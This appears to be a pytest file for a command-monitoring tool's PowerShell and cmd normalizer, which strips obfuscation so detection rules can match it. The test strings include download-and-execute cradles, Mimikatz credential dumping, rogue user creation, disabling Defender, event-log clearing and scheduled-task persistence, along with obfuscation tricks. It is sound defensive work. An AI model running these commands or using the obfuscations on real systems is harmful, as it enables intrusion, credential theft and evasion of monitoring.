"""PowerShell and cmd normalization (session/powershell.py): the obfuscations the Windows rules must see through,
each checked on what the rules scan (segments, whole line, inner code), and linear time on hostile input."""

from __future__ import annotations

import base64
import time

import pytest
from sessionguard.rules import RulePack
from sessionguard.session.powershell import normalize_cmd, normalize_powershell
from sessionguard.session.powershell_commands import decode_base64_script


def texts(command: str) -> str:
    """Everything the rules scan, one text per line."""
    normalized = normalize_powershell(command)
    return "\n".join([normalized.whole, *normalized.segments, *normalized.inner])


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("command", "seen"),
    [
        ("IEX 'whoami'", "invoke-expression whoami"),  # alias and case
        ("iwr http://x/a | iex", "invoke-webrequest http://x/a | invoke-expression"),
        ("gci C:\\ -Recurse", "get-childitem c:\\ -recurse"),
        ("i`e`x 'whoami'", "invoke-expression whoami"),  # backtick escapes
        ("& ('I'+'EX') ('who'+'ami')", "invoke-expression whoami"),  # concatenation
        ("& ('{1}{0}' -f 'ex','i') 'hostname'", "invoke-expression hostname"),  # -f formatting
        ("& ([char]105+[char]101+[char]120) 'id'", "invoke-expression id"),
        ('Write-Host "a`tb"', "write-host a b"),  # escapes inside expandable strings
        ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c x", "powershell -command x"),
        ("powershell -nop -w 1 -ep b -c Get-Date", "powershell -noprofile -windowstyle hidden -executionpolicy bypass"),
        ("PowerShell /NoP /NonI /W Hidden /Exec Bypass x", "-noninteractive -windowstyle hidden -executionpolicy"),
        ("Set-MpPreference \u2013DisableRealtimeMonitoring $true", "set-mppreference -disablerealtimemonitoring"),
        ("sal x iex; x 'whoami'", "invoke-expression whoami"),  # an alias the command defines
        ("$c = 'net user'; iex $c", "\nnet user"),  # a variable it defines, run as code
        ("attrib +h +s C:\\x.exe", "attrib +h +s c:\\x.exe"),  # `+` at a native argument's start is text
    ],
)
def test_obfuscation_is_undone(command: str, seen: str) -> None:
    assert seen in texts(command)


def test_encoded_command_is_decoded_and_read_as_code() -> None:
    command = f"powershell -e {encoded('IEX (New-Object Net.WebClient).DownloadString("http://x/a")')}"
    normalized = normalize_powershell(command)
    assert "invoke-expression ( new-object net.webclient ) .downloadstring ( http://x/a )" in normalized.inner
    assert "new-object net.webclient" in normalized.segments


def test_base64_handed_to_frombase64string_is_decoded() -> None:
    payload = base64.b64encode(b"Invoke-Mimikatz -DumpCreds").decode()
    command = f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{payload}')))"
    assert "invoke-mimikatz -dumpcreds" in normalize_powershell(command).segments


@pytest.mark.parametrize(
    ("command", "inner"),
    [
        ('cmd /c "who^ami & net user x P@ss /add"', "whoami ; net user x p@ss /add"),
        ("powershell -c \"iex (iwr 'http://x')\"", "invoke-expression ( invoke-webrequest http://x )"),
        ("powershell -w hidden -c iex(iwr http://x/u.ps1)", "invoke-expression ( invoke-webrequest http://x/u.ps1 )"),
        ("[ScriptBlock]::Create('whoami /all').Invoke()", "whoami /all"),
        ("Start-Process cmd -ArgumentList '/c net user' -WindowStyle Hidden", "cmd /c net user"),
        ('wmic process call create "cmd /c whoami"', "cmd /c whoami"),
        ('schtasks /create /tn x /tr "rundll32 javascript:x" /sc onlogon', "rundll32 javascript:x"),
    ],
)
def test_code_in_strings_is_read_again(command: str, inner: str) -> None:
    assert inner in normalize_powershell(command).inner


def test_cmd_carets_and_quotes_are_resolved() -> None:
    normalized = normalize_cmd('c^m^d /c p^ing -n 1 "127.0.0.1" && w^hoami')
    assert "ping -n 1 127.0.0.1" in normalized.segments
    assert "whoami" in normalized.segments


def test_a_program_run_from_a_user_folder_keeps_its_path_in_a_segment() -> None:
    normalized = normalize_powershell("C:\\Users\\Public\\svc.exe -connect 203.0.113.7")
    assert "svc -connect 203.0.113.7" in normalized.segments
    assert "c:\\users\\public\\svc.exe -connect 203.0.113.7" in normalized.segments


@pytest.mark.parametrize("text", ["", "   ", "SGVsbG8=", "not base64 at all", "AAAA"])
def test_base64_that_is_not_a_script_is_not_decoded(text: str) -> None:
    assert decode_base64_script(text) is None


def test_windows_and_linux_rules_only_judge_their_own_platform() -> None:
    pack = RulePack.load()
    assert [match.rule.id for match in pack.match("wevtutil cl Security", platform="windows")] == ["SG-WIN-EVADE-003"]
    assert pack.match("wevtutil cl Security") == []  # a Linux session's command
    assert all(match.rule.platform == "linux" for match in pack.match("history -c"))
    assert pack.match("history -c", platform="windows") == []


@pytest.mark.parametrize(
    "hostile",
    [
        "'" * 33_333,
        "(" * 16_666 + ")" * 16_666,
        "iex " * 8_333,
        "'a'+" * 8_333 + "'b'",
        "'{0}' -f " * 5_000 + "'x'",
        "powershell -c " * 3_333,
        "cmd /c " * 5_000,
        "`" * 33_333,
        "@'\n" * 8_333,
        "& (" * 8_333,
        "powershell -e " + "QQBBAEEAQQA" * 3_333,
    ],
    ids=lambda hostile: f"{hostile[:16]!r}x{len(hostile)}",
)
def test_hostile_input_is_normalized_in_linear_time(hostile: str) -> None:
    # Sizes where a quadratic path would take minutes; linear work takes well under a second even on a busy machine.
    started = time.perf_counter()
    normalize_powershell(hostile)
    normalize_cmd(hostile)
    assert time.perf_counter() - started < 5
